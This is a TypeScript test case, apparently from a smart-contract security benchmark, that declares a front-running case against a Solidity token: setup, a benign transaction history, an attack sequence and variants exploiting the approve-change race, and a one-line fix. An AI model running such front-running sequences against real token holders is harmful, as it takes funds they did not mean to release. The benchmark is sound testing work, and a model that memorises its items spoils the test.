import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, reverting, through } from '../lib/steps.ts'

const NAME = 'club-points'
const owner = actor(`${NAME}/owner`)
const spender = actor(`${NAME}/spender`)
const victim = actor(`${NAME}/victim`)
const second = actor(`${NAME}/second victim`)
const users = crowd(NAME, 8)
const points = (amount: number) => BigInt(amount) * ETHER

export default declareCase({
  about:
    'a member changes an allowance that is not used up; the spender, who used most of the old one in the block before, uses the new one too',
  class: 'front-running',
  hardfork: 'london',
  units: [{ compiler: '0.4.26', files: ['ClubPoints.sol'] }],

  async setUp(world) {
    await fundAll(world, [owner, spender, victim, second, ...users], 5n * ETHER)
    const club = await world.deploy('ClubPoints', [], owner)
    const wallet = await deployWallet(world, users[0]!)
    for (const holder of [victim, second, wallet.address, ...users])
      await world.run(call(owner, club, 'mint', [holder, points(10_000)]))
    await world.run(call(victim, club, 'approve', [spender, points(3_000)]))
    await world.run(call(second, club, 'approve', [spender, points(1_000)]))
    await world.run(call(owner, club, 'setPartner', [users[7], true]))
    await world.run(call(owner, club, 'setPartner', [spender, true]))
    return { club, wallet }
  },
  protect: ({ club }) => [club],
  // Of the old allowance nothing counts: it was spent within its bounds, before the attack's block.
  loss: ({ club }) => [{ token: club.address, from: victim }],

  history({ club, wallet }) {
    const by = (user: number, name: string, args: readonly unknown[]) => call(users[user]!, club, name, args)
    const byWallet = (name: string, args: readonly unknown[]) => through(wallet.address, by(0, name, args))
    return [
      by(1, 'transfer', [users[2], points(120)]),
      by(1, 'approve', [users[3], points(500)]),
      by(3, 'transferFrom', [users[1], users[4], points(200)]),
      // Members who change an allowance set it to nothing first, as the club's handbook says.
      by(1, 'approve', [users[3], 0n]),
      by(1, 'approve', [users[3], points(700)]),
      by(3, 'transferFrom', [users[1], users[3], points(700)]),
      by(1, 'approve', [users[3], points(250)]),
      byWallet('approve', [users[5], points(900)]),
      by(5, 'transferFrom', [wallet.address, users[5], points(450)]),
      reverting(by(5, 'transferFrom', [wallet.address, users[5], points(451)])),
      byWallet('increaseApproval', [users[5], points(100)]),
      byWallet('decreaseApproval', [users[5], points(300)]),
      by(5, 'transferFrom', [wallet.address, users[6], points(250)]),
      byWallet('approveMany', [[users[5], users[7]], points(600)]),
      by(7, 'redeemFrom', [wallet.address, points(600)]),
      reverting(by(6, 'redeemFrom', [wallet.address, points(1)])),
      by(2, 'approveMany', [[users[7], users[4], wallet.address], points(80)]),
      by(7, 'redeemFrom', [users[2], points(30)]),
      byWallet('transferFrom', [users[2], wallet.address, points(80)]),
      by(2, 'approveMany', [[users[7], users[4], wallet.address], 0n]),
      by(2, 'approve', [users[4], 2n ** 256n - 1n]),
      by(4, 'transferFrom', [users[2], users[4], points(1_000)]),
      by(2, 'decreaseApproval', [users[4], 2n ** 256n - 1n]),
      by(2, 'approve', [users[4], points(5)]),
      by(6, 'approve', [users[6], points(10)]),
      by(6, 'transferFrom', [users[6], users[6], points(10)]),
      by(6, 'approve', [users[1], 0n]),
      by(3, 'burn', [points(77)]),
      byWallet('burn', [0n]),
      call(owner, club, 'setFrozen', [true]),
      reverting(by(4, 'transfer', [users[5], points(3)])),
      by(4, 'approve', [users[5], points(3)]),
      call(owner, club, 'setFrozen', [false]),
      by(5, 'transferFrom', [users[4], users[5], points(3)]),
      reverting(by(4, 'setPartner', [users[4], true])),
      call(second, club, 'transfer', [users[1], points(40)]),
      by(7, 'increaseApproval', [users[6], points(60)]),
      call(spender, club, 'transferFrom', [second, spender, points(850)]),
      // The spender saw the victim's change pending and was faster with the old allowance.
      call(spender, club, 'transferFrom', [victim, spender, points(2_950)]),
    ]
  },

  attack: ({ club }) => [
    call(victim, club, 'approve', [spender, points(2_000)]),
    call(spender, club, 'transferFrom', [victim, spender, points(2_000)]),
  ],
  variants: ({ club }) => [
    [
      call(victim, club, 'approveMany', [[users[1], spender], points(4_000)]),
      call(spender, club, 'transferFrom', [victim, users[6], points(1_500)]),
      call(spender, club, 'transferFrom', [victim, spender, points(2_500)]),
    ],
    [
      call(victim, club, 'approve', [spender, points(700)]),
      call(spender, club, 'redeemFrom', [victim, points(700)]),
    ],
    [
      call(second, club, 'approve', [spender, points(600)]),
      call(victim, club, 'approve', [spender, points(1_200)]),
      call(spender, club, 'transferFrom', [second, spender, points(600)]),
      call(spender, club, 'transferFrom', [victim, spender, points(1_200)]),
    ],
  ],
  fix: [
    {
      file: 'ClubPoints.sol',
      replace: '        require(spender != address(0));\n',
      by: '        require(spender != address(0));\n        require(value == 0 || allowance[msg.sender][spender] == 0);\n',
    },
  ],
})
